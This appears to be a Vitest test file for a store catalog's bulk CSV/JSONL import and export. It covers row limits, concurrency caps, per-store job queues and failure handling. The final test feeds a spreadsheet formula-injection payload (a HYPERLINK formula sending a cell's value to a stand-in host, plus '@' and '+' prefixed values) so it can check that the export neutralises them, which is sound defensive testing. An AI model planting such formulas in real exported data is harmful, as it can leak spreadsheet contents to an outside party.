import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importChunk, markImportFailed } from '../../src/modules/catalog/import/chunk.ts';
import { exportCatalog } from '../../src/modules/catalog/import/export.ts';
import { importNow } from '../../src/modules/catalog/import/service.ts';
import { MAX_ACTIVE_IMPORTS, MAX_IMPORT_ROWS, stageImport } from '../../src/modules/catalog/import/staging.ts';
import { importChunkJob } from '../../src/modules/catalog/jobs.ts';
import type { Db } from '../../src/platform/db/database.ts';
import { jobSpecRow } from '../../src/platform/jobs/enqueue.ts';
import { makeTenant, testDb } from '../support/platform.ts';

const HEADER = 'handle,title,description,status,tags,sku,variant_title,price_minor,currency,cost_minor,weight_grams,options';
const csv = (content: string) => Readable.from([content]);

describe('bulk import limits (M4) and export safety (L4)', () => {
  let db: Db;
  beforeAll(() => {
    db = testDb();
  });
  afterAll(() => db.close());

  it(`refuses a file of more than ${MAX_IMPORT_ROWS} rows and keeps nothing of it`, async () => {
    const store = await makeTenant(db);
    const rows = Array.from({ length: MAX_IMPORT_ROWS + 1 }, (_, i) => `p${i},T,,draft,,S${i},,1,USD,,,`);
    const staged = db.withTenant(store.id, (trx) => stageImport(trx, store.id, csv([HEADER, ...rows].join('\n')), 'csv'));
    await expect(staged).rejects.toMatchObject({ status: 413 });
    const left = await db.withTenant(store.id, (trx) => trx.selectFrom('catalog_imports').selectAll().execute());
    expect(left).toEqual([]);
  });

  it('reports an over-long record as a row error instead of holding it', async () => {
    const store = await makeTenant(db);
    const long = `long,${'x'.repeat(70 * 1024)},,draft,,L1,,1,USD,,,`;
    const result = await importNow(db, store.id, csv([HEADER, 'ok,Ok,,draft,,OK1,,1,USD,,,', long].join('\n')), 'csv');
    expect(result.errors.length).toBeGreaterThan(0);
    const jsonl = await importNow(db, store.id, csv(`${JSON.stringify({ handle: 'j', title: 'x'.repeat(70 * 1024) })}\n`), 'jsonl');
    expect(jsonl.errors[0]?.message).toMatch(/longer than/);
  });

  it(`lets a store have at most ${MAX_ACTIVE_IMPORTS} imports in flight`, async () => {
    const store = await makeTenant(db);
    const file = [HEADER, 'a,A,,draft,,A1,,1,USD,,,'].join('\n');
    for (let i = 0; i < MAX_ACTIVE_IMPORTS; i++) await db.withTenant(store.id, (trx) => stageImport(trx, store.id, csv(file), 'csv'));
    await expect(db.withTenant(store.id, (trx) => stageImport(trx, store.id, csv(file), 'csv'))).rejects.toMatchObject({ status: 429 });
    const other = await makeTenant(db);
    await expect(db.withTenant(other.id, (trx) => stageImport(trx, other.id, csv(file), 'csv'))).resolves.toMatchObject({ chunks: 1 });
  });

  it('queues the chunks of each store apart, so one store takes one runner at a time', () => {
    const envelope = (tenant: string) => ({ v: 1, tenant_id: tenant, origin: null, data: { import_id: tenant, seq: 0 } });
    const a = jobSpecRow(importChunkJob as never, envelope('00000000-0000-4000-8000-00000000000a'));
    const b = jobSpecRow(importChunkJob as never, envelope('00000000-0000-4000-8000-00000000000b'));
    expect(a.queue_name).toBe('catalog.import-chunk:00000000-0000-4000-8000-00000000000a');
    expect(a.queue_name).not.toBe(b.queue_name);
  });

  it('ends an import whose chunk died as failed, and a later chunk does not revive it', async () => {
    const store = await makeTenant(db);
    const file = [HEADER, 'a,A,,draft,,A1,,1,USD,,,', 'b,B,,draft,,B1,,1,USD,,,'].join('\n');
    const staged = await db.withTenant(store.id, (trx) => stageImport(trx, store.id, csv(file), 'csv', 1));
    await db.withTenant(store.id, (trx) => markImportFailed(trx, staged.importId));
    await db.withTenant(store.id, (trx) => importChunk(trx, store.id, staged.importId, 1));
    const row = await db.withTenant(store.id, (trx) => trx.selectFrom('catalog_imports').select(['status', 'finished_at']).where('id', '=', staged.importId).executeTakeFirstOrThrow());
    expect(row.status).toBe('failed');
    expect(row.finished_at).not.toBeNull();
  });

  it('neutralises spreadsheet formulas in the CSV export, and the import reads them back unchanged', async () => {
    const store = await makeTenant(db);
    const file = [HEADER, 'evil,"=HYPERLINK(""http://x/?""&A1)",@SUM(1),draft,,S-1,+cmd,100,USD,,,'].join('\n');
    expect(await importNow(db, store.id, csv(file), 'csv')).toMatchObject({ rows_failed: 0 });
    const exported = await text(exportCatalog(db, store.id, 'csv'));
    const line = exported.split('\n')[1]!;
    expect(line).not.toMatch(/(^|,)"?[=+@-]/);
    expect(line).toContain(`'=HYPERLINK`);
    const again = await makeTenant(db);
    await importNow(db, again.id, csv(exported), 'csv');
    const title = await db.withTenant(again.id, (trx) => trx.selectFrom('products').select(['title', 'description']).executeTakeFirstOrThrow());
    expect(title).toEqual({ title: '=HYPERLINK("http://x/?"&A1)', description: '@SUM(1)' });
  });
});
